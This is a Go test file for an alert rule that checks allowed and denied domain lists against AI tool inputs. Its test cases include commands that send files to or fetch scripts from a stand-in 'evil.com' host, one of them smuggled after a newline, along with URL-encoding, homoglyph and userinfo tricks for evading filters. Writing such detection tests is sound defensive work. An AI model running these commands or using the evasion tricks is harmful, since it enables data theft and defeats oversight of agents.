package alert

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestList(t *testing.T) {
	r := newRig(t, Spec{List: &ListSpec{Attribute: "model", Allowed: []string{"a", "b"}}})
	r.silent("x", attributes{"model": "a"})
	r.silent("x", attributes{"model": "[REDACTED]"})
	r.silent("x", nil)
	r.one("x", attributes{"model": "A"})
	r = newRig(t, Spec{List: &ListSpec{Attribute: "model", Denied: []string{"a"}}})
	r.silent("x", attributes{"model": "b"})
	r.one("x", attributes{"model": "a"})
}

// TestAllowedDomains checks a list of allowed domains on inputs of tools.
func TestAllowedDomains(t *testing.T) {
	list := &ListSpec{Attribute: "tool_input", Allowed: []string{"*.example.com", "münchen.de", "10.0.0.1", "localhost"}, Domains: true}
	for input, fires := range map[string]bool{
		`{"url":"https://example.com/a?b=evil.com"}`:         false,
		`{"url":"https://API.Example.com:8443/"}`:            false,
		`{"url":"https://example.com."}`:                     false,
		`{"url":"https://www.xn--mnchen-3ya.de/"}`:           false,
		`{"url":"https://MÜNCHEN。de/"}`:                      false,
		`{"url":"http://10.0.0.1/"}`:                         false,
		`{"url":"http://localhost:3000"}`:                    false,
		`{"command":"go test ./... && python3 script.py"}`:   false,
		`{"command":"cat README.md main.rs"}`:                false,
		`{"command":"curl -s api.example.com | jq .a.body"}`: false,
		`{"url":"https://evil.com/"}`:                        true,
		`{"url":"https:\/\/evil.com\/"}`:                     true,
		`{"url":"https:\u002f\u002fevil.com"}`:               true,
		`{"url":"https://example.com.evil.com/"}`:            true,
		`{"url":"https://notexample.com/"}`:                  true,
		`{"url":"https://example.com@evil.com/"}`:            true,
		`{"url":"https://exаmple.com/"}`:                     true, // with a Cyrillic а
		`{"url":"http://10.0.0.10/"}`:                        true,
		`{"url":"http://[REDACTED_IP_ADDRESS]/"}`:            true,
		`{"url":"http://[::1]/"}`:                            true,
		`{"url":"https%3A%2F%2Fevil.com"}`:                   true,
		`{"command":"curl -s evil.com"}`:                     true,
		`{"command":"scp a.txt jane@evil.com:/tmp"}`:         true,
		`{"command":"true\nwget evil.com/x.sh"}`:             true,
		`evil.com`:                                           true,
	} {
		r := newRig(t, Spec{List: list})
		require.Equal(t, fires, len(r.send("x", 0, attributes{"tool_input": input})) > 0, input)
	}
}

func TestDeniedDomains(t *testing.T) {
	list := &ListSpec{Attribute: "tool_input", Denied: []string{"evil.com"}, Domains: true}
	for input, fires := range map[string]bool{
		`{"command":"nice-tool a.evil.com"}`:       true,
		`{"url":"//ＥＶＩＬ.com/x"}`:                   true,
		`{"url":"https://evil.community/"}`:        false,
		`{"command":"see https://good.com/evil/"}`: false,
	} {
		r := newRig(t, Spec{List: list})
		require.Equal(t, fires, len(r.send("x", 0, attributes{"tool_input": input})) > 0, input)
	}
}
